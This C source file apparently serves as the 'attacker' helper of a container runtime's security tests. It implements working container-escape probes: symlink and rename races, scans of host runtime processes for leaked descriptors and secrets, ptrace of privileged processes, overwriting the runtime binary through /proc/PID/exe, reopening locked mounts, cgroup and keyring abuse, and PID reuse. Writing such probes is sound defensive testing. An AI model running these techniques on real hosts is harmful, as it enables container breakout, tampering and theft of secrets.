// What attackers run: inside of containers and, as ordinary users, beside them. `attacker VERB [ARGUMENT…]`; the verbs
// stand in the table at the end. Built statically, it needs nothing of the image. What succeeds is printed; a failure
// by its errno's name.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int mount(const char *, const char *, const char *, unsigned long, const void *);
int umount2(const char *, int);
#define BIND_REMOUNT (4096 | 32)

static const char *name(int error) { return error ? strerrorname_np(error) : "done"; }

static long long now_ms(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1000LL + time.tv_nsec / 1000000;
}

static ssize_t get(int folder, const char *path, char *text, size_t size) {
    int file = openat(folder, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (file < 0) return -1;
    ssize_t length = read(file, text, size - 1);
    int error = errno;
    close(file);
    errno = error;
    text[length > 0 ? length : 0] = 0;
    return length;
}

static int put(const char *path, const char *text, int flags) {
    int file = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);
    if (file < 0) return errno;
    int error = write(file, text, strlen(text)) < 0 ? errno : 0;
    close(file);
    return error;
}

// --- plain acts -----------------------------------------------------------------------------------------------------

static int wait_for_end(char **words) {
    (void)words;
    signal(SIGTERM, SIG_DFL);
    for (;;) {
        pause();
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
    return 0;
}

// swap A B: exchanges the two for ever.
static int swap(char **words) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2 /* RENAME_EXCHANGE */);
    return 0;
}

// replace NAME TARGET: whenever the name stands for something else, it becomes a link to the target.
static int replace(char **words) {
    for (;;)
        if (unlink(words[0]) == 0 && symlink(words[1], words[0]) == 0) {
            dprintf(1, "replaced\n");
            return wait_for_end(NULL);
        }
    return 0;
}

// --- watching processes of the runtime that get a number here --------------------------------------------------------

static char known_mounts[1 << 16];

static int is_ours(int file) {
    struct statx status;
    char number[32];
    if (statx(file, "", AT_EMPTY_PATH, 0x1000 /* STATX_MNT_ID */, &status)) return 1;
    get(AT_FDCWD, "/proc/self/mountinfo", known_mounts, sizeof known_mounts);
    snprintf(number, sizeof number, "\n%llu ", (unsigned long long)status.stx_mnt_id);
    return strstr(known_mounts, number) || !strncmp(known_mounts, number + 1, strlen(number) - 1);
}

// A socket, a pipe, and what counts events or signals lead nowhere; everything else is to belong to a mount of the
// container. Whether a pidfd means a process that has a number here, read below a folder of /proc; then it leads
// nowhere else.
static int means_one_of_us(int process, int number) {
    char path[32], text[512];
    snprintf(path, sizeof path, "fdinfo/%d", number);
    if (get(process, path, text, sizeof text) <= 0) return 0;
    const char *line = strstr(text, "Pid:");
    return line && atoi(line + 4) > 0;
}

static int leads_outside(int file, const char *link) {
    struct statfs status;
    if (!strncmp(link, "socket:", 7) || !strncmp(link, "pipe:", 5)) return 0;
    if (!strncmp(link, "/memfd:hook ", 12)) return 0;  // the container's own state for its hook to read, and what the hook says
    if (!strcmp(link, "anon_inode:[signalfd]") || !strcmp(link, "anon_inode:[eventfd]")) return 0;
    if (!strncmp(link, "anon_inode:", 11) || !strncmp(link, "pidfd", 5)) return 1;
    if (fstatfs(file, &status) == 0 && status.f_type == 0x6e736673 /* nsfs */) return 1;
    return !is_ours(file);
}

static int told;  // kinds that were told of the process at hand

static void lost(char kind, int pid, const char *what) {
    if (told & 1 << (kind - 'a')) return;
    told |= 1 << (kind - 'a');
    dprintf(1, "lost %c %d %s\n", kind, pid, what);
}

static void look_at_descriptors(int process, int pid) {
    char path[32], link[256];
    for (int number = 3; number < 24; number++) {
        snprintf(path, sizeof path, "fd/%d", number);
        ssize_t length = readlinkat(process, path, link, sizeof link - 1);
        if (length <= 0) continue;
        link[length] = 0;
        int file = openat(process, path, O_PATH | O_CLOEXEC);
        if (file < 0) continue;
        if (leads_outside(file, link) && !(strstr(link, "pidfd") && means_one_of_us(process, number))) lost('f', pid, link);
        close(file);
    }
}

static void fetch_descriptors(int pid) {
    char path[32], link[256];
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int number = 3; process >= 0 && number < 12; number++) {
        int file = syscall(SYS_pidfd_getfd, process, number, 0);
        if (file < 0) { if (errno == EPERM) break; continue; }
        snprintf(path, sizeof path, "/proc/self/fd/%d", file);
        ssize_t length = readlink(path, link, sizeof link - 1);
        link[length > 0 ? length : 0] = 0;
        if (leads_outside(file, link)) lost('g', pid, link);
        close(file);
    }
    if (process >= 0) close(process);
}

static unsigned long long permitted(int process) {
    char text[4096];
    get(process, "status", text, sizeof text);
    const char *line = strstr(text, "CapPrm:");
    return line ? strtoull(line + 7, NULL, 16) : 0;
}

// Whether a process holds what this one doesn't, where it counts: in the same user namespace.
static int is_mightier(int process) {
    struct stat theirs, ours;
    if (fstatat(process, "ns/user", &theirs, 0) || stat("/proc/self/ns/user", &ours) || theirs.st_ino != ours.st_ino) return 0;
    int self = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
    unsigned long long own = permitted(self);
    close(self);
    return (permitted(process) & ~own) != 0;
}

static void trace(int process, int pid) {
    int status;
    char text[4096], *line;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        int file = openat(process, "exe", O_PATH | O_CLOEXEC);
        if (file >= 0 && !is_ours(file) && is_mightier(process)) {
            get(process, "status", text, sizeof text);
            line = strstr(text, "CapEff:");
            if (line) line[strcspn(line, "\n")] = 0;
            lost('p', pid, line ? line : "?");
        }
        if (file >= 0) close(file);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void look_at(int pid, const char *kinds, const char *secret, const char *word) {
    static char text[1 << 16];
    char path[64], below[4200];
    snprintf(path, sizeof path, "/proc/%d", pid);
    long long end = now_ms() + 40;
    told = 0;
    for (int process = -1; now_ms() < end;) {
        if (process < 0) process = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (process < 0) continue;
        struct stat status;
        if (fstatat(process, "stat", &status, 0)) { close(process); return; }
        for (const char *kind = kinds; *kind; kind++) switch (*kind) {
            case 'r':
                snprintf(below, sizeof below, "root%s", secret);
                if (get(process, below, text, sizeof text) > 0) lost('r', pid, below);
                break;
            case 'c':
                if (get(process, "cwd/secret", text, sizeof text) > 0) lost('c', pid, "cwd/secret");
                break;
            case 'e':
                for (ssize_t length = get(process, "environ", text, sizeof text), i = 0; i < length; i += strlen(text + i) + 1)
                    if (strstr(text + i, word)) lost('e', pid, text + i);
                break;
            case 'f': look_at_descriptors(process, pid); break;
            case 'g': fetch_descriptors(pid); break;
            case 'p': trace(process, pid); break;
            case 'x': {
                int file = openat(process, "exe", O_WRONLY | O_CLOEXEC);
                if (file >= 0 && !is_ours(file)) lost('x', pid, "exe");
                if (file >= 0) close(file);
                break;
            }
            case 's':
                if (kill(pid, SIGSTOP) == 0) lost('s', pid, "stopped");
                break;
            }
        if (now_ms() >= end) close(process);
    }
}

static int last_number(int file) {
    char text[16] = "";
    if (pread(file, text, sizeof text - 1, 0) <= 0) return 0;
    return atoi(text);
}

// watch KINDS SECRET WORD: looks at each process that gets a number here, in the ways the letters say, as fast as it
// can.
static int watch(char **words) {
    int file = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC), last = last_number(file);
    dprintf(1, "watching\n");
    for (;;) {
        int now = last_number(file);
        while (last < now) look_at(++last, words[0], words[1], words[2]);
    }
    return 0;
}

// hold GO: opens whatever foreign program a process here executes, and writes into it when the file GO is there.
static int hold(char **words) {
    char path[64];
    int held = -1, file = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC), last = last_number(file);
    dprintf(1, "watching\n");
    while (held < 0) {
        int now = last_number(file);
        // Numbers before the newest, too: who executes the script again keeps its own.
        for (int pid = now; pid > last - 3 && pid > 1 && held < 0; pid--) {
            if (pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int program = open(path, O_RDONLY | O_CLOEXEC);
            if (program < 0) continue;
            if (is_ours(program)) close(program);
            else held = program;
        }
    }
    dprintf(1, "held\n");
    while (access(words[0], F_OK)) usleep(1000);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int error = 0;
    for (long long end = now_ms() + 500; now_ms() < end;) {
        int program = open(path, O_WRONLY | O_CLOEXEC);
        error = program < 0 ? errno : pwrite(program, "#!/overwritten\n", 15, 0) == 15 ? 0 : errno;
        if (!error) break;
        if (error != ETXTBSY) break;
    }
    dprintf(1, "write %s\n", name(error));
    return wait_for_end(NULL);
}

// --- locked mounts ---------------------------------------------------------------------------------------------------

static int rebind(const char *path) {
    struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOEXEC};
    int tree = syscall(SYS_open_tree, AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree < 0) return errno;
    if (syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attributes, sizeof attributes)) return errno;
    return syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH) ? errno : 0;
}

static int below(const char *path) {
    // The mount's parent without what is mounted below: what is hidden would show.
    char parent[4096];
    snprintf(parent, sizeof parent, "%s", path);
    char *slash = strrchr(parent, '/');
    *(slash == parent ? slash + 1 : slash) = 0;
    int tree = syscall(SYS_open_tree, AT_FDCWD, parent, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree < 0) return errno;
    return syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp", MOVE_MOUNT_F_EMPTY_PATH) ? errno : 0;
}

static int open_mount(const char *way, const char *path) {
    struct mount_attr clear = {.attr_clr = MOUNT_ATTR_RDONLY | MOUNT_ATTR_NOSUID | MOUNT_ATTR_NODEV | MOUNT_ATTR_NOEXEC};
    if (!strcmp(way, "remount")) return mount(NULL, path, NULL, BIND_REMOUNT, NULL) ? errno : 0;
    if (!strcmp(way, "superblock")) return mount(NULL, path, NULL, 32, NULL) ? errno : 0;
    if (!strcmp(way, "setattr")) return syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &clear, sizeof clear) ? errno : 0;
    if (!strcmp(way, "recursive")) return syscall(SYS_mount_setattr, AT_FDCWD, "/", 0x8000 /* AT_RECURSIVE */, &clear, sizeof clear) ? errno : 0;
    if (!strcmp(way, "umount")) return umount2(path, 0) ? errno : 0;
    if (!strcmp(way, "detach")) return umount2(path, 2) ? errno : 0;
    if (!strcmp(way, "move")) return mount(path, "/tmp", NULL, 8192, NULL) ? errno : 0;
    if (!strcmp(way, "rebind")) return rebind(path);
    if (!strcmp(way, "below")) return below(path);
    if (!strcmp(way, "namespace")) return unshare(CLONE_NEWNS) ? errno : open_mount("remount", path) & open_mount("umount", path);
    if (!strcmp(way, "user")) return unshare(CLONE_NEWUSER | CLONE_NEWNS) ? errno : open_mount("remount", path) & open_mount("umount", path);
    return EINVAL;
}

// unlock WAY MOUNT [READ|WRITE] FILE…: tries to open a locked mount, and then to read or write the files.
static int unlock(char **words) {
    char text[4096];
    printf("%s %s\n", words[0], name(open_mount(words[0], words[1])));
    for (char **file = words + 3; *file; file++) {
        if (words[2][0] == 'w') printf("write %s: %s\n", *file, name(put(*file, "written by the container\n", 0)));
        else printf("read %s: %s\n", *file, get(AT_FDCWD, *file, text, sizeof text) > 0 ? text : "nothing");
    }
    return 0;
}

// --- cgroups ---------------------------------------------------------------------------------------------------------

// cgroups KIND: makes cgroups below /sys/fs/cgroup that are hard to remove, with a process in the last.
static int cgroups(char **words) {
    const char *kind = words[0];
    char part[256], here[32];
    if (chdir("/sys/fs/cgroup")) return errno;
    int depth = !strcmp(kind, "deep") ? 60 : !strcmp(kind, "many") ? 300 : 1;
    memset(part, 'x', 200);
    part[200] = 0;
    if (!strcmp(kind, "bytes")) strcpy(part, "\xff");
    if (!strcmp(kind, "dots")) strcpy(part, "..\xc3\x28 \x01");
    if (!strcmp(kind, "nested")) strcpy(part, "frozen");
    for (int i = 0; i < depth; i++) {
        if (!strcmp(kind, "many")) snprintf(part, sizeof part, "\xfe%d", i);
        if (mkdir(part, 0755)) { printf("mkdir %s\n", name(errno)); break; }
        if (!strcmp(kind, "many") && i + 1 < depth) continue;
        if (chdir(part)) { printf("chdir %s\n", name(errno)); break; }
    }
    for (int i = 0; i < 3; i++) {
        if (fork()) continue;
        snprintf(here, sizeof here, "%d", getpid());
        if (i && setsid() < 0) return 1;
        printf("enter %s\n", name(put("cgroup.procs", here, 0)));
        fflush(stdout);
        return wait_for_end(NULL);
    }
    usleep(50000);
    if (!strcmp(kind, "nested")) printf("freeze %s\n", name(put("cgroup.freeze", "1", 0)));
    dprintf(1, "ready\n");
    return wait_for_end(NULL);
}

// --- keyrings --------------------------------------------------------------------------------------------------------

// squat NAME…: session keyrings of these names that everybody may search.
static int squat(char **words) {
    for (char **keyring = words; *keyring; keyring++) {
        long key = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, *keyring);
        syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3fL);
        if (!keyring[1] || fork()) continue;
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        return wait_for_end(NULL);
    }
    dprintf(1, "ready\n");
    return wait_for_end(NULL);
}

static int keyring(char **words) {
    char text[256] = "";
    (void)words;
    syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof text - 1);
    printf("keyring %s\n", text);
    return 0;
}

// --- numbers of processes --------------------------------------------------------------------------------------------

struct clone_words { uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size, cgroup; };

static int impostor(int pid) {
    for (long long end = now_ms() + 3000; now_ms() < end; usleep(500)) {
        pid_t number = pid;
        struct clone_words words = {.exit_signal = SIGCHLD, .set_tid = (uint64_t)(uintptr_t)&number, .set_tid_size = 1};
        long child = syscall(SYS_clone3, &words, sizeof words);
        if (child == 0) for (;;) pause();
        if (child == pid) return 0;
    }
    return 1;
}

// reuse N PID PROGRAM…: at the N-th system call of the program, the process PID is killed and one of the host gets its
// number.
static int reuse(char **words) {
    int n = atoi(words[0]), pid = atoi(words[1]), calls = 0, status, code = -1, swapped = 0;
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        execv(words[2], words + 2);
        _exit(127);
    }
    waitpid(child, &status, 0);
    ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC);
    ptrace(PTRACE_SYSCALL, child, 0, 0);
    while (waitpid(child, &status, __WALL) == child) {
        int signal = WSTOPSIG(status);
        if (WIFEXITED(status) || WIFSIGNALED(status)) { code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status); break; }
        if (signal == (SIGTRAP | 0x80) && ++calls == 2 * n) {
            kill(pid, SIGKILL);
            swapped = !impostor(pid);
        }
        ptrace(PTRACE_SYSCALL, child, 0, signal == (SIGTRAP | 0x80) || status >> 16 ? 0 : signal == SIGSTOP ? 0 : signal);
    }
    printf("calls %d exit %d\n", calls / 2, code);
    if (!swapped) printf("not swapped\n");
    else if (waitpid(pid, &status, WNOHANG) == pid) printf("impostor killed\n");
    else printf("impostor alive\n");
    if (swapped) kill(pid, SIGKILL);
    return 0;
}

int main(int count, char **words) {
    static const struct { const char *name; int least; int (*act)(char **); } verbs[] = {
        {"wait", 0, wait_for_end}, {"swap", 2, swap}, {"replace", 2, replace}, {"watch", 3, watch}, {"hold", 1, hold},
        {"unlock", 3, unlock}, {"cgroups", 1, cgroups}, {"squat", 1, squat}, {"keyring", 0, keyring}, {"reuse", 3, reuse},
    };
    for (size_t i = 0; count > 1 && i < sizeof verbs / sizeof *verbs; i++)
        if (!strcmp(words[1], verbs[i].name) && count - 2 >= verbs[i].least) return verbs[i].act(words + 2);
    fprintf(stderr, "attacker: no such verb, or too few words\n");
    return 2;
}
